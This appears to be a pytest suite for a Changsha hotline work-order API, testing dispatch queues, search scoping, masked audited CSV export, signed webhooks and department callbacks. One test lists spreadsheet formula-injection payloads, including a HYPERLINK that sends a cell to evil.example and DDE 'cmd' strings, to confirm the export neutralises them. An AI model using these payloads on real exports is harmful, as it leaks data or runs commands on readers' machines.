"""Agents' suggest/confirm, work queues, search, audited export, department webhooks (outbox) and status callbacks.
On SQLite and PostgreSQL, through the HTTP API; webhooks go to a real HTTP receiver on loopback."""
from __future__ import annotations

import datetime as dt
import hashlib
import hmac
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from api.auth.keys import create_api_key
from api.auth.models import AuditRecord
from api.auth.staff import create_staff
from hotline.core.clock import CITY_TZ, city_midnight
from hotline.core.db import transaction
from orders import outbox
from orders.models import OutboxMessage, RoutingDecision, WorkOrder
from orders.outbox import HttpWebhookSender
from orders.service import Actor, apply_action, create_order

STALL = "岳麓区望月湖街道晚上好多摊贩占道摆摊卖烧烤，人行道都过不去😡，电话13812345678"
NOISE = "雨花区高桥街道工地半夜还在打桩，吵得睡不着！！"
CHENGGUAN, YUHUA_SHENGTAI, YUHUA_CHENGGUAN = "430104-CHENGGUAN", "430111-SHENGTAI", "430111-CHENGGUAN"
SYSTEM = Actor("dispatch-system", "system")


def _routing(department: str, decision: str, confidence: float, others: tuple[str, ...] = ()) -> dict:
    candidates = [{"department": {"code": code}, "kb_item": {"id": "KB-01-001"}, "score": 0.5}
                  for code in (department, *others)]
    return {"decision": decision, "confidence": confidence, "department": {"code": department, "name": "x"},
            "kb_item": {"id": "KB-01-001"}, "category": ["城市管理", "市容秩序", "占道经营"], "time_limit_days": 3,
            "candidates": candidates, "address": {"district": {"adcode": "430104"}}}


@pytest.fixture
def work(app_and_keys):  # noqa: F811
    """The app, its API keys (the centre's dispatch system, a reader, two department systems) and a session
    factory; `new` files an order through the service with a fixed routing answer."""
    app, keys, factory = app_and_keys
    with transaction(factory) as session:
        keys["chengguan"] = create_api_key(session, name="yuelu-chengguan-system", scopes=["orders:read", "orders:write"],
                                           department_code=CHENGGUAN)[1]
        keys["shengtai"] = create_api_key(session, name="yuhua-shengtai-system", scopes=["orders:read", "orders:write"],
                                          department_code=YUHUA_SHENGTAI)[1]
        keys["admin"] = create_api_key(session, name="ops", scopes=["kb:write", "orders:read"])[1]

    def new(text: str, routing: dict | None, *, auto: bool = True, phone: str | None = "13812345678") -> str:
        with transaction(factory) as session:
            order, _ = create_order(session, text=text, channel="hotline", actor=SYSTEM, caller_phone=phone,
                                    routing=routing, auto_dispatch=auto)
            return order.order_no

    with TestClient(app) as client:
        yield client, keys, factory, new


def _h(keys, name):
    return {"X-API-Key": keys[name]}


def test_confident_orders_are_dispatched_at_intake_others_wait_for_an_agent(work):
    client, keys, factory, new = work
    auto = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    suggest = new(STALL, _routing(CHENGGUAN, "suggest", 0.6, (YUHUA_CHENGGUAN,)))
    review = new(NOISE, _routing(YUHUA_SHENGTAI, "review", 0.4, (YUHUA_CHENGGUAN,)))
    read = client.get(f"/api/v1/orders/{auto}", headers=_h(keys, "reader")).json()
    assert read["state"] == "dispatched" and read["department_code"] == CHENGGUAN
    assert [e["action"] for e in read["events"]] == ["create", "accept", "dispatch"]
    assert read["events"][-1]["data"]["mode"] == "auto" and read["events"][-1]["actor"] == "router"

    intake = client.get("/api/v1/queues/intake", headers=_h(keys, "dispatch")).json()
    assert [i["order_no"] for i in intake["items"]] == [suggest]
    assert intake["items"][0]["suggested_department"] == CHENGGUAN and "13812345678" not in str(intake)
    review_queue = client.get("/api/v1/queues/review", headers=_h(keys, "dispatch")).json()
    assert [i["order_no"] for i in review_queue["items"]] == [review]


def test_agent_confirms_or_changes_the_suggestion(work):
    client, keys, factory, new = work
    kept, changed = (new(STALL, _routing(CHENGGUAN, "suggest", 0.6, (YUHUA_CHENGGUAN,))) for _ in range(2))
    shown = client.get(f"/api/v1/orders/{kept}/suggestions", headers=_h(keys, "dispatch")).json()
    assert shown["suggested"]["code"] == CHENGGUAN and [c["department"] for c in shown["candidates"]] == [
        CHENGGUAN, YUHUA_CHENGGUAN]
    ok = client.post(f"/api/v1/orders/{kept}/confirm", json={}, headers=_h(keys, "dispatch"))
    assert ok.status_code == 200, ok.text
    assert ok.json()["state"] == "dispatched" and ok.json()["events"][-1]["data"]["mode"] == "assisted"

    moved = client.post(f"/api/v1/orders/{changed}/confirm", json={"department_code": YUHUA_CHENGGUAN},
                        headers=_h(keys, "dispatch"))
    assert moved.status_code == 200 and moved.json()["department_code"] == YUHUA_CHENGGUAN
    assert moved.json()["events"][-1]["data"]["mode"] == "manual"
    with factory() as session:
        decision = session.scalar(select(RoutingDecision).join(WorkOrder).where(WorkOrder.order_no == changed))
        assert decision.correct is False and decision.final_department_code == YUHUA_CHENGGUAN
    # the router learned the agent's choice: the same complaint now routes to the unit the agent chose
    assert client.app.state.router.feedback, "the correction was not recorded"

    again = client.post(f"/api/v1/orders/{kept}/confirm", json={}, headers=_h(keys, "dispatch"))
    assert again.status_code == 409 and "不能派单" in again.json()["detail"]
    unknown = client.post(f"/api/v1/orders/{changed}/confirm", json={"department_code": "NOPE-1"},
                          headers=_h(keys, "dispatch"))
    assert unknown.status_code == 422
    by_department = client.post(f"/api/v1/orders/{kept}/confirm", json={}, headers=_h(keys, "chengguan"))
    assert by_department.status_code == 403


def test_department_queue_is_its_own_and_ordered_by_deadline(work):
    client, keys, factory, new = work
    mine = [new(STALL, _routing(CHENGGUAN, "auto", 0.97)) for _ in range(2)]
    theirs = new(NOISE, _routing(YUHUA_SHENGTAI, "auto", 0.97))
    queue = client.get("/api/v1/queues/department", headers=_h(keys, "chengguan")).json()
    assert sorted(i["order_no"] for i in queue["items"]) == sorted(mine)
    assert all(i["timeliness"] == "正常" for i in queue["items"])
    # a department system cannot look into another unit's queue by naming it
    forced = client.get(f"/api/v1/queues/department?department={YUHUA_SHENGTAI}", headers=_h(keys, "chengguan"))
    assert theirs not in str(forced.json())
    assert client.get("/api/v1/queues/intake", headers=_h(keys, "chengguan")).status_code == 403
    assert client.get("/api/v1/queues/department", headers=_h(keys, "dispatch")).status_code == 422
    centre = client.get(f"/api/v1/queues/department?department={YUHUA_SHENGTAI}", headers=_h(keys, "dispatch"))
    assert [i["order_no"] for i in centre.json()["items"]] == [theirs]
    assert client.get("/api/v1/queues/nonsense", headers=_h(keys, "dispatch")).status_code == 422


def test_search_filters_and_department_scope(work):
    client, keys, factory, new = work
    stall = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    noise = new(NOISE, _routing(YUHUA_SHENGTAI, "auto", 0.97))
    found = client.get("/api/v1/orders", params={"q": "打桩"}, headers=_h(keys, "reader")).json()
    assert [o["order_no"] for o in found] == [noise]
    # phones are masked in the stored text, so searching for a number finds nothing
    assert client.get("/api/v1/orders", params={"q": "13812345678"}, headers=_h(keys, "reader")).json() == []
    assert client.get("/api/v1/orders", params={"q": "100%_"}, headers=_h(keys, "reader")).json() == []
    both = client.get("/api/v1/orders", params={"state": "dispatched"}, headers=_h(keys, "reader")).json()
    assert {o["order_no"] for o in both} == {stall, noise}
    scoped = client.get("/api/v1/orders", headers=_h(keys, "chengguan")).json()
    assert [o["order_no"] for o in scoped] == [stall]
    assert client.get("/api/v1/orders", params={"state": "flying"}, headers=_h(keys, "reader")).status_code == 422
    assert client.get("/api/v1/orders", params={"openid": "o-1"}, headers=_h(keys, "chengguan")).status_code == 403


def test_export_is_masked_and_audited(work):
    client, keys, factory, new = work
    new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    with transaction(factory) as session:
        create_staff(session, username="zhang.official", password="s3cret-长沙-2026", role="official")
    token = client.post("/api/v1/auth/token", json={"username": "zhang.official", "password": "s3cret-长沙-2026"}).json()
    today = dt.datetime.now(CITY_TZ).date()   # periods are the city's days
    params = {"start": (today - dt.timedelta(days=1)).isoformat(), "end": (today + dt.timedelta(days=1)).isoformat()}
    response = client.get("/api/v1/exports/orders.csv", params=params,
                          headers={"Authorization": f"Bearer {token['access_token']}"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    body = response.text
    assert "13812345678" not in body and "138****5678" in body and "望月湖" in body
    with factory() as session:
        audit = session.scalars(select(AuditRecord).where(AuditRecord.action == "export")).all()
        assert len(audit) == 1 and audit[0].actor == "zhang.official" and audit[0].detail["rows"] == 1
    assert client.get("/api/v1/exports/orders.csv", params={"start": params["end"], "end": params["start"]},
                      headers={"Authorization": f"Bearer {token['access_token']}"}).status_code == 422


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")岳麓区望月湖街道路灯坏了', "+cmd|' /C calc'!A0 岳麓区路灯坏了",
            "@SUM(1+1)*cmd|' /C calc'!A0 岳麓区", "-2+3+cmd|' /C calc'!A0 岳麓区望月湖街道"]


def test_export_neutralises_spreadsheet_formulas(work):
    """Review 2026-12-06, M5: a complaint starting with = + - @ ran as a formula when officials opened the export."""
    import csv
    import io

    from orders.export import csv_cell

    client, keys, factory, new = work
    for text in FORMULAS:
        new(text, _routing(CHENGGUAN, "auto", 0.97) | {"address": {"standard_address": "=1+1", "district": {"adcode": "430104"}}})
    today = dt.datetime.now(CITY_TZ).date()
    params = {"start": (today - dt.timedelta(days=1)).isoformat(), "end": (today + dt.timedelta(days=1)).isoformat()}
    response = client.get("/api/v1/exports/orders.csv", params=params, headers=_h(keys, "reader"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    header, rows = rows[0], rows[1:]
    assert len(rows) == len(FORMULAS)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert {row[header.index("address")] for row in rows} == {"'=1+1"}
    texts = sorted(row[header.index("text")] for row in rows)
    assert texts == sorted("'" + text for text in FORMULAS)         # shown as text, nothing else changed
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1" and csv_cell("望月湖") == "望月湖"
    assert csv_cell(None) == "" and csv_cell(3) == "3" and csv_cell("2026-12-06T10:00:00") == "2026-12-06T10:00:00"


PII_FORMS = ("岳麓区望月湖街道路灯坏了，我叫李建国，住12栋3单元502室，电话１３８１２３４５６８２，备用幺三八一二三四五六八三，"
            "身份证 430104 19900101 1235，老证430104900101123，卡号6222021234567890123，邮箱wangxm@163.com，车牌湘A12345")
PII_SECRETS = ("建国", "502", "１３８１２３４５６８２", "幺三八一二三四五六八三", "430104 19900101 1235", "430104900101123",
               "6222021234567890123", "wangxm", "湘A12345")


def test_export_masks_the_pii_forms_the_review_found(work):
    """Review 2026-12-06, M4: names, rooms, full-width/Chinese-numeral phones, spaced and old IDs, cards, e-mail and
    plates reached the export; rows stored before the masking learnt them are masked on the way out too."""
    client, keys, factory, new = work
    new(PII_FORMS, _routing(CHENGGUAN, "auto", 0.97))
    old = new("岳麓区望月湖街道噪音扰民", _routing(CHENGGUAN, "auto", 0.97))
    with transaction(factory) as session:       # a row masked by the old rules: the text as it was
        session.scalar(select(WorkOrder).where(WorkOrder.order_no == old)).text_masked = PII_FORMS
    today = dt.datetime.now(CITY_TZ).date()
    params = {"start": (today - dt.timedelta(days=1)).isoformat(), "end": (today + dt.timedelta(days=1)).isoformat()}
    response = client.get("/api/v1/exports/orders.csv", params=params, headers=_h(keys, "reader"))
    assert response.status_code == 200
    for secret in PII_SECRETS:
        assert secret not in response.text, secret
    assert response.text.count("我叫李**") == 2 and "岳麓区望月湖街道路灯坏了" in response.text


# -- webhooks --------------------------------------------------------------------------------------------------
class Receiver:
    """A department's system on loopback: records what it receives, answers with the scripted status codes."""

    def __init__(self, statuses: list[int]):
        self.statuses, self.received = list(statuses), []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.received.append((dict(self.headers), body))
                self.send_response(receiver.statuses.pop(0) if receiver.statuses else 200)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hooks/12345"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


@pytest.fixture
def receiver():
    servers = []

    def make(statuses=()):
        servers.append(Receiver(list(statuses)))
        return servers[-1]

    yield make
    for server in servers:
        server.close()


def _deliver(factory, *, now=None, max_attempts=3):
    return outbox.deliver_due(factory, sender=HttpWebhookSender(), now=now, max_attempts=max_attempts,
                              backoff_base_s=10, timeout_s=2)


def test_dispatch_reaches_the_department_signed_once_delivered(work, receiver):
    client, keys, factory, new = work
    hook = receiver()
    registered = client.put(f"/api/v1/departments/{CHENGGUAN}/webhook", json={"url": hook.url},
                            headers=_h(keys, "admin"))
    assert registered.status_code == 200, registered.text
    secret = registered.json()["secret"]
    order_no = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    report = _deliver(factory)
    assert report.delivered == 1 and len(hook.received) == 1
    headers, body = hook.received[0]
    expected = "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
    assert headers["X-Hotline-Signature"] == expected
    payload = json.loads(body)
    assert payload["topic"] == "order.dispatched" and payload["order_no"] == order_no
    assert payload["event"]["action"] == "dispatch" and "13812345678" not in payload["text"]
    assert _deliver(factory).delivered == 0, "a delivered message must not be sent again"
    with factory() as session:
        assert outbox.backlog(session) == 0


def test_failed_deliveries_back_off_then_give_up(work, receiver):
    client, keys, factory, new = work
    hook = receiver([500, 503, 502])
    client.put(f"/api/v1/departments/{CHENGGUAN}/webhook", json={"url": hook.url}, headers=_h(keys, "admin"))
    new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    assert _deliver(factory).failed == 1
    assert _deliver(factory).delivered == 0 and len(hook.received) == 1, "retried before its backoff elapsed"
    with factory() as session:
        message = session.scalar(select(OutboxMessage))
        wait = (message.next_attempt_at.replace(tzinfo=dt.UTC) if message.next_attempt_at.tzinfo is None
                else message.next_attempt_at) - dt.datetime.now(dt.UTC)
        assert 5 < wait.total_seconds() < 15 and message.last_error == "HTTP 500"
    later = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
    assert _deliver(factory, now=later).failed == 1
    assert _deliver(factory, now=later + dt.timedelta(hours=2)).dead == 1
    assert len(hook.received) == 3
    dead = client.get("/api/v1/outbox", headers=_h(keys, "admin")).json()
    assert dead["backlog"] == 0 and dead["dead"][0]["last_error"] == "HTTP 502"
    with transaction(factory) as session:
        assert outbox.retry_dead(session) == 1
    assert _deliver(factory).delivered == 1


def test_redispatch_tells_the_old_department_and_a_refused_step_sends_nothing(work, receiver):
    client, keys, factory, new = work
    old, fresh = receiver(), receiver()
    for code, hook in ((CHENGGUAN, old), (YUHUA_CHENGGUAN, fresh)):
        client.put(f"/api/v1/departments/{code}/webhook", json={"url": hook.url}, headers=_h(keys, "admin"))
    order_no = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    returned = client.post(f"/api/v1/orders/{order_no}/actions", headers=_h(keys, "chengguan"),
                           json={"action": "return", "reason": "不属于本单位职责，应由雨花区处理", "at_fault": False})
    assert returned.status_code == 200
    illegal = client.post(f"/api/v1/orders/{order_no}/actions", headers=_h(keys, "dispatch"), json={"action": "sign"})
    assert illegal.status_code == 409
    client.post(f"/api/v1/orders/{order_no}/actions", headers=_h(keys, "dispatch"),
                json={"action": "dispatch", "department_code": YUHUA_CHENGGUAN, "mode": "manual"})
    _deliver(factory)
    old_topics = [json.loads(body)["topic"] for _, body in old.received]
    # dispatched to it; its own return is not echoed back; told when the order went elsewhere
    assert old_topics == ["order.dispatched", "order.withdrawn"]
    assert [json.loads(body)["topic"] for _, body in fresh.received] == ["order.dispatched"]


def test_an_order_merged_away_from_the_unit_it_was_dispatched_to_is_withdrawn_there(work, receiver):
    """A second caller's order was dispatched to 岳麓 城管 (not yet signed) before the agent saw it is the same event
    as an order 雨花 城管 handles: merged, it leaves 岳麓 城管, which must hear so (it stayed in their queue)."""
    client, keys, factory, new = work
    old, fresh = receiver(), receiver()
    for code, hook in ((CHENGGUAN, old), (YUHUA_CHENGGUAN, fresh)):
        client.put(f"/api/v1/departments/{code}/webhook", json={"url": hook.url}, headers=_h(keys, "admin"))
    handling = new(NOISE, _routing(YUHUA_CHENGGUAN, "auto", 0.97))
    second = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    merged = client.post(f"/api/v1/orders/{second}/merge", headers=_h(keys, "dispatch"),
                         json={"into": handling, "reason": "同一事件"})
    assert merged.status_code == 200, merged.text
    _deliver(factory)
    assert [json.loads(body)["topic"] for _, body in old.received] == ["order.dispatched", "order.withdrawn"]
    withdrawn = json.loads(old.received[-1][1])
    assert withdrawn["order_no"] == second and withdrawn["event"]["action"] == "merge"
    assert [json.loads(body)["topic"] for _, body in fresh.received] == ["order.dispatched"]


# -- inbound status callbacks ----------------------------------------------------------------------------------
def test_department_callbacks_apply_once_and_only_to_its_orders(work):
    client, keys, factory, new = work
    mine = new(STALL, _routing(CHENGGUAN, "auto", 0.97))
    theirs = new(NOISE, _routing(YUHUA_SHENGTAI, "auto", 0.97))
    sign = {"event_id": "cg-2026-0001", "order_no": mine, "action": "sign"}
    first = client.post("/api/v1/callbacks/status", json=sign, headers=_h(keys, "chengguan"))
    assert first.status_code == 200 and first.json() == {"order_no": mine, "state": "signed",
                                                          "version": first.json()["version"], "replayed": False}
    retry = client.post("/api/v1/callbacks/status", json=sign, headers=_h(keys, "chengguan"))
    assert retry.status_code == 200 and retry.json()["replayed"] is True
    read = client.get(f"/api/v1/orders/{mine}", headers=_h(keys, "reader")).json()
    assert [e["action"] for e in read["events"]].count("sign") == 1
    # A department's "extend" is a request (issue 11): the deadline waits for the centre's approval.
    deadline = read["deadline_at"]
    extend = client.post("/api/v1/callbacks/status", headers=_h(keys, "chengguan"),
                         json={"event_id": "cg-2026-0001b", "order_no": mine, "action": "extend", "days": 3,
                               "reason": "需与街道联合整治"})
    assert extend.status_code == 200, extend.text
    read = client.get(f"/api/v1/orders/{mine}", headers=_h(keys, "reader")).json()
    assert read["deadline_at"] == deadline and read["events"][-1]["action"] == "extend_request"
    complete = client.post("/api/v1/callbacks/status", headers=_h(keys, "chengguan"),
                           json={"event_id": "cg-2026-0002", "order_no": mine, "action": "complete",
                                 "result": "已联合街道清理占道摊贩，并安排夜间巡查。"})
    assert complete.json()["state"] == "completed"
    stranger = client.post("/api/v1/callbacks/status", headers=_h(keys, "chengguan"),
                           json={"event_id": "cg-2026-0003", "order_no": theirs, "action": "sign"})
    assert stranger.status_code == 404
    not_a_department = client.post("/api/v1/callbacks/status", json={**sign, "event_id": "x-1"},
                                   headers=_h(keys, "dispatch"))
    assert not_a_department.status_code == 403
    missing_reason = client.post("/api/v1/callbacks/status", headers=_h(keys, "shengtai"),
                                 json={"event_id": "st-1", "order_no": theirs, "action": "return"})
    assert missing_reason.status_code == 409 and "需要填写" in missing_reason.json()["detail"]
    bad = client.post("/api/v1/callbacks/status", headers=_h(keys, "shengtai"),
                      json={"event_id": "", "order_no": theirs, "action": "archive"})
    assert bad.status_code == 422


def test_a_failed_step_leaves_no_webhook_behind(work):
    """The outbox row and the step commit together: a step that fails leaves no message."""
    client, keys, factory, new = work
    with transaction(factory) as session:
        outbox.register_endpoint(session, department_code=CHENGGUAN, url="http://127.0.0.1:9/never")
    order_no = new(STALL, _routing(CHENGGUAN, "suggest", 0.6), auto=False)
    with pytest.raises(RuntimeError), transaction(factory) as session:
        order = session.scalar(select(WorkOrder).where(WorkOrder.order_no == order_no))
        apply_action(session, order_id=order.id, action="accept", actor=SYSTEM)
        apply_action(session, order_id=order.id, action="dispatch", actor=SYSTEM, department_code=CHENGGUAN)
        raise RuntimeError("the request failed after the dispatch")
    with factory() as session:
        assert outbox.backlog(session) == 0
        assert session.scalar(select(WorkOrder).where(WorkOrder.order_no == order_no)).state == "received"


def test_a_value_the_database_refuses_is_a_400_not_a_500(work):
    client, keys, factory, new = work
    response = client.get("/api/v1/queues/department", params={"department": "430104\x00"}, headers=_h(keys, "dispatch"))
    if factory.kw["bind"].dialect.name == "postgresql":   # PostgreSQL refuses NUL in text; SQLite stores it
        assert response.status_code == 400 and "cannot store" in response.json()["detail"]
    else:
        assert response.status_code == 200 and response.json()["items"] == []


def test_a_city_day_starts_at_midnight_beijing_time_on_both_databases(work):
    """An order taken at 01:00 in 长沙 (17:00 UTC the day before) belongs to the city's next day."""
    from orders import indicators as ind

    client, keys, factory, new = work
    with transaction(factory) as session:
        create_order(session, text=STALL, channel="hotline", actor=SYSTEM,
                     now=dt.datetime(2026, 11, 21, 17, 0, tzinfo=dt.UTC))
    day = lambda d: ind.Scope(city_midnight(d), city_midnight(d + dt.timedelta(days=1)))  # noqa: E731
    with factory() as session:
        assert ind.order_count(session, day(dt.date(2026, 11, 22))).value == 1
        assert ind.order_count(session, day(dt.date(2026, 11, 21))).value == 0
